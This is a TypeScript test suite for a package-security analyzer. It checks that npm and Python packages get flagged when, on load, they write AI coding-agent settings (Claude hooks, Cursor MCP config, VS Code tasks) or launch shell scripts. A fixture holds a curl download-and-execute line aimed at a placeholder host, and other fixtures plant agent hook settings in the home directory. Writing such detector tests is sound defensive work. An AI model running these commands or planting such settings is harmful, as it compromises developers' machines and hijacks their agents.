import { analyzeArtifact } from '../process/analyze-artifact';
import { npmPackage, wheel, type Files } from '../testing/archives';

const SHELL = 'curl -s http://a.invalid/x -o x\nchmod +x x\n./x &\n';
const RULES = /^code-(?:agent-settings|remote-code)$/;
const MAIN = { main: 'index.js' };
const WRITE = `const fs = require('fs'), os = require('os'), path = require('path');
  function plant() { fs.writeFileSync(path.join(os.homedir(), '.claude', 'settings.json'), JSON.stringify({ hooks: { SessionStart: [] } })); }`;

async function inNpm(
  files: Files,
  manifest: Record<string, unknown> = { main: 'index.js' },
): Promise<string[]> {
  const { findings } = await analyzeArtifact('npm', await npmPackage(manifest, files));
  return [...new Set(findings.map(({ rule }) => rule).filter((rule) => RULES.test(rule)))];
}

async function inWheel(files: Files): Promise<string[]> {
  const { findings } = await analyzeArtifact('pypi', wheel(files));
  return [...new Set(findings.map(({ rule }) => rule).filter((rule) => RULES.test(rule)))];
}

describe('rules/settings-and-scripts', () => {
  it.each<[string, Files]>([
    ['called', { 'index.js': `${WRITE} plant();` }],
    ['called back', { 'index.js': `${WRITE} setTimeout(plant, 9000);` }],
    ['in a file that is required', { 'index.js': "require('./lib/a')", 'lib/a.js': `${WRITE} plant();` }],
    [
      'copied out of the package',
      {
        'index.js':
          "require('fs').copyFileSync(__dirname + '/t.json', process.env.HOME + '/.cursor/mcp.json')",
      },
    ],
    [
      'by a command',
      { 'index.js': "require('child_process').execSync('cp node_modules/a/t.json .vscode/tasks.json')" },
    ],
  ])('sees settings of agents that loading writes: %s', async (_, files) => {
    expect(await inNpm(files)).toEqual(['code-agent-settings']);
  });

  it.each<[string, Files, Record<string, unknown>]>([
    ['offered as a function', { 'index.js': `${WRITE} module.exports = { plant };` }, MAIN],
    ['as a command', { 'index.js': `${WRITE} program.command('setup').action(() => plant());` }, MAIN],
    ['where the file is the program', { 'index.js': `${WRITE} if (require.main === module) plant();` }, MAIN],
    [
      'by a program of the package',
      { 'index.js': '', 'cli.js': `${WRITE} plant();` },
      { main: 'index.js', bin: 'cli.js' },
    ],
    [
      'read and not written',
      { 'index.js': "require('fs').readFileSync('.claude/settings.json').hooks" },
      MAIN,
    ],
    [
      'of an editor, and running nothing',
      { 'index.js': "require('fs').writeFileSync('.vscode/settings.json', '{}')" },
      MAIN,
    ],
  ])('is silent about settings %s', async (_, files, manifest) => {
    expect(await inNpm(files, manifest)).toEqual([]);
  });

  it.each<[string, string]>([
    [
      'open()',
      "import json, os\nwith open(os.path.expanduser('~/.cursor/mcp.json'), 'w') as f:\n    json.dump({'mcpServers': {}}, f)\n",
    ],
    [
      'a thread',
      "import threading, shutil\ndef go():\n    shutil.copy('a', '/home/u/.claude/settings.json')\nthreading.Thread(target=go).start()\n",
    ],
    [
      'a class',
      "from pathlib import Path\nclass A:\n    def __init__(self):\n        (Path.home() / '.claude' / 'settings.json').write_text('{\"a\": 1}')\n        self.x = {'hooks': 1}\nA()\n",
    ],
  ])('sees them in Python: %s', async (_, code) => {
    expect(await inWheel({ 'sample/__init__.py': code })).toEqual(['code-agent-settings']);
  });

  it.each<[string, Files]>([
    [
      'a function',
      {
        'sample/__init__.py':
          "def setup():\n    open('.claude/settings.json', 'w').write('{\"hooks\": 1}')\n",
      },
    ],
    ['a program', { 'sample/__main__.py': "open('.cursor/mcp.json', 'w').write({'mcpServers': 1})\n" }],
    [
      '__name__',
      {
        'sample/a.py':
          "if __name__ == '__main__':\n    open('.cursor/mcp.json', 'w').write({'mcpServers': 1})\n",
      },
    ],
  ])('is silent in Python about %s', async (_, files) => {
    expect(await inWheel(files)).toEqual([]);
  });

  it.each<[string, Files]>([
    [
      'spawned',
      { 'index.js': "require('child_process').spawn('sh', [__dirname + '/bin/a.sh'])", 'bin/a.sh': SHELL },
    ],
    [
      'through another',
      {
        'index.js': "require('child_process').exec('sh bin/a.sh')",
        'bin/a.sh': '. bin/b.sh\nsh bin/b.sh',
        'bin/b.sh': SHELL,
      },
    ],
    [
      'without an ending',
      { 'lib/x.js': "require('child_process').execFile('bash', ['data/table'])", 'data/table': SHELL },
    ],
  ])('follows code into scripts of a shell: %s', async (_, files) => {
    expect(await inNpm(files)).toEqual(['code-remote-code']);
  });

  it('follows Python into scripts of a shell', async () => {
    const start = "import subprocess\nsubprocess.Popen(['bash', 'sample/a.sh'])\n";

    expect(await inWheel({ 'sample/__init__.py': start, 'sample/a.sh': SHELL })).toEqual([
      'code-remote-code',
    ]);
  });

  it('is silent about scripts that nothing starts', async () => {
    expect(await inNpm({ 'index.js': '', 'bin/a.sh': SHELL })).toEqual([]);
  });
});
